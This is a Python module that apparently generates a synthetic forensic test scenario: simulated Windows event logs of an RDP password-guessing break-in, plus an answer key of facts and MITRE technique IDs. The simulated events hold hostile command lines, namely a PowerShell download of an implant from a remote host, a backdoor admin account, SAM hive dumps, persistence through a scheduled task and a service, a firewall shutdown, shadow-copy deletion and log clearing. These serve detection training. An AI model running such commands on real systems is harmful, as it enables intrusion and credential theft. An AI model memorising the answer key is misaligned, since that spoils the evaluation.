"""A guessed desktop password on a host that keeps only Security and System logs. evtx_dump's JSON lines."""

from __future__ import annotations

import random
from datetime import timedelta
from pathlib import Path

from ..making import Day, FactRow, Scenario, make_truth
from .layouts import evtx_dump
from .machine import CMD, PS, SYS32, SYSTEM_USER, Machine
from .noise import administrator, collection, furnish, maintenance, ordinary
from .rendered import get_winevent

DAY = Day("2024-09-19")
GUESSER = "192.0.2.166"
VICTIM = "HOLLIS-TS01\\Administrator"
TOOL = "C:\\Users\\Administrator\\Downloads\\netscan\\netscan.exe"
IMPLANT = "C:\\ProgramData\\Oracle\\jusched32.exe"


def _attack(m: Machine, dice: random.Random) -> None:
    at = DAY.at
    for n in range(140):
        name = dice.choice(("administrator", "admin", "backup", "scan", "Administrator", "test"))
        m.logon(
            at("02:10:00") + timedelta(seconds=2.1 * n),
            f"HOLLIS-TS01\\{name}",
            3 if n % 3 else 10,
            GUESSER,
            failed=True,
            package="NTLM",
        )
    m.logon(at("02:16:31"), VICTIM, 10, GUESSER, package="Negotiate")
    m.security(at("02:16:31.2"), 4672, VICTIM, PrivilegeList="SeDebugPrivilege\r\n\t\t\tSeBackupPrivilege")
    desk = m.start(
        at("02:16:35"), "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE", m.procs["winlogon"], VICTIM, "High"
    )
    shell = m.start(at("02:17:20"), CMD, '"C:\\Windows\\system32\\cmd.exe"', desk)
    for clock, exe, line in (("02:17:31", "whoami.exe", "whoami  /priv"), ("02:17:50", "net.exe", "net  user"), ("02:18:04", "net.exe", "net  localgroup administrators"),
                             ("02:18:30", "quser.exe", "quser"), ("02:18:52", "ipconfig.exe", "ipconfig  /all"), ("02:19:20", "nltest.exe", "nltest  /dclist:hollis")):  # fmt: skip
        m.run(at(clock), SYS32 + exe, line, shell)
    m.start(at("02:21:10"), TOOL, f'"{TOOL}" /hide /auto:result.xml /range:10.60.1.1-10.60.1.254', desk)
    ps = m.start(
        at("02:23:00"),
        PS,
        "powershell  -ep bypass -c \"(New-Object Net.WebClient).DownloadFile('http://192.0.2.170:8000/jusched32.exe','C:\\ProgramData\\Oracle\\jusched32.exe')\"",
        shell,
    )
    m.net(at("02:23:02"), ps, "192.0.2.170", 8000)
    m.stop(at("02:23:06"), ps)
    m.run(at("02:24:10"), SYS32 + "net.exe", "net  user helpdesk2 P@ssw0rd!9 /add", shell)
    m.security(
        at("02:24:10.3"),
        4720,
        VICTIM,
        TargetUserName="helpdesk2",
        TargetDomainName="HOLLIS-TS01",
        TargetSid="S-1-5-21-77-88-99-1019",
        SamAccountName="helpdesk2",
        DisplayName="%%1793",
    )
    m.run(at("02:24:31"), SYS32 + "net.exe", "net  localgroup administrators helpdesk2 /add", shell)
    m.security(
        at("02:24:31.3"),
        4732,
        VICTIM,
        MemberName="-",
        MemberSid="S-1-5-21-77-88-99-1019",
        TargetUserName="Administrators",
        TargetDomainName="Builtin",
        TargetSid="S-1-5-32-544",
    )
    m.run(at("02:26:00"), SYS32 + "reg.exe", "reg  save HKLM\\SAM C:\\ProgramData\\Oracle\\s.hiv", shell)
    m.run(at("02:26:10"), SYS32 + "reg.exe", "reg  save HKLM\\SYSTEM C:\\ProgramData\\Oracle\\y.hiv", shell)
    m.run(
        at("02:28:00"),
        SYS32 + "schtasks.exe",
        f"schtasks  /create /tn \\Oracle\\JavaUpdate /tr {IMPLANT} /sc onstart /ru SYSTEM",
        shell,
    )
    m.task(at("02:28:00.5"), VICTIM, "\\Oracle\\JavaUpdate", IMPLANT)
    m.run(at("02:29:20"), SYS32 + "sc.exe", f"sc  create OraJavaSched binPath= {IMPLANT} start= auto", shell)
    m.service(at("02:29:20.4"), "OraJavaSched", IMPLANT, "auto start")
    m.run(at("02:29:40"), SYS32 + "sc.exe", "sc  start OraJavaSched", shell)
    implant = m.start(at("02:29:41"), IMPLANT, IMPLANT, m.procs["services"], SYSTEM_USER)
    for n in range(6):
        m.net(at("02:29:44") + timedelta(minutes=n), implant, "192.0.2.170", 443)
    m.run(at("02:33:00"), SYS32 + "netsh.exe", "netsh  advfirewall set allprofiles state off", shell)
    m.run(at("02:36:00"), SYS32 + "vssadmin.exe", "vssadmin  delete shadows /all /quiet", shell)
    m.run(at("02:38:00"), SYS32 + "wevtutil.exe", "wevtutil  cl System", shell)
    m.event(
        at("02:38:00.3"),
        "System",
        104,
        {"SubjectUserName": "Administrator", "SubjectDomainName": "HOLLIS-TS01", "Channel": "System", "BackupPath": ""},
    )


def machines() -> tuple[Machine, Machine]:
    """The host, and a second that had nothing to do with it."""
    dice = random.Random(1909)
    m = Machine("HOLLIS-TS01", "10.60.1.20", "HOLLIS", "hollis.test", sysmon=False)
    quiet = Machine("HOLLIS-PR02", "10.60.1.24", "HOLLIS", "hollis.test", sysmon=False)
    for host in (m, quiet):
        furnish(host)
        ordinary(host, DAY, dice, "00:30:00", "04:00:00", 800)
        maintenance(host, DAY.at("01:00:00"))
    m.logon(DAY.at("01:31:00"), "HOLLIS\\g.weiss", 3, "10.60.1.77", failed=True)  # somebody mistypes
    m.logon(DAY.at("01:31:09"), "HOLLIS\\g.weiss", 3, "10.60.1.77")
    administrator(quiet, DAY.at("03:01:00"), "HOLLIS\\g.weiss", "10.60.1.77")
    _attack(m, dice)
    collection(m, DAY.at("03:40:00"), "HOLLIS\\g.weiss")
    return m, quiet


def write(folder: Path) -> None:
    """The two logs of each host."""
    for name, m in zip(("ts01", "pr02"), machines(), strict=True):
        (folder / f"{name}.jsonl").write_text(evtx_dump(m), encoding="utf-8")


def write_text(folder: Path) -> None:
    """The same as PowerShell exports it, the data in the events' text alone."""
    for name, m in zip(("ts01", "pr02"), machines(), strict=True):
        (folder / f"{name}.csv").write_text(get_winevent(m), encoding="utf-8", newline="")


_FACTS: tuple[FactRow, ...] = (
    ("host", 2, ("hollis-ts01",)), ("guesser", 3, (GUESSER,)), ("failed", 3, (f"{GUESSER} & fail",)), ("logon", 3, (f"{GUESSER} & administrator",)),
    ("account", 2, ("hollis-ts01\\administrator",)), ("whoami", 1, ("whoami",)), ("local_admins", 1, ("localgroup administrators",)),
    ("nltest", 1, ("nltest",)), ("scan", 2, ("netscan.exe",)), ("download", 3, ("192.0.2.170 & jusched32.exe",)), ("c2", 3, ("192.0.2.170",)),
    ("implant", 3, ("jusched32.exe",)), ("implant_c2", 2, ("jusched32.exe & 192.0.2.170 & 443", "jusched32.exe & 192.0.2.170:443")),
    ("new_account", 3, ("helpdesk2",)), ("new_admin", 2, ("helpdesk2 & administrators",)), ("hives", 3, ("s.hiv", "reg & save & sam")),
    ("task", 3, ("javaupdate",)), ("service", 3, ("orajavasched",)), ("firewall", 2, ("advfirewall",)), ("shadows", 2, ("vssadmin",)),
    ("cleared", 2, ("wevtutil & cl", "log & cleared")),
)  # fmt: skip

_TRUTH = make_truth(
    "desktop", _FACTS, "failed whoami scan download new_account hives task service firewall shadows cleared",
    "T1110 T1021.001 T1078 T1033 T1087.001 T1046 T1105 T1136.001 T1098 T1003.002 T1053.005 T1543.003 T1686 T1490 T1685.005",
    "T1059 T1059.001 T1059.003 T1069 T1069.001 T1087 T1016 T1018 T1482 T1133 T1110.001 T1110.003 T1569 T1569.002 T1562 T1562.004 T1070 T1070.001 T1036 "
    "T1036.005 T1071 T1204 T1204.002 T1098.007 T1049 T1012 T1685 T1571",
    ("2024-09-19T02:10:00Z", "2024-09-19T02:38:00Z"),
    ("GoogleUpdate.exe", "142.250.72.99", "g.weiss", "10.60.1.77", "HOLLIS-PR02", "healthservice.exe", "collect.ps1"),
    ("epl",),
)  # fmt: skip

SCENARIO = Scenario("desktop", write, _TRUTH)
IN_TEXT = Scenario("desktop-in-text", write_text, _TRUTH)
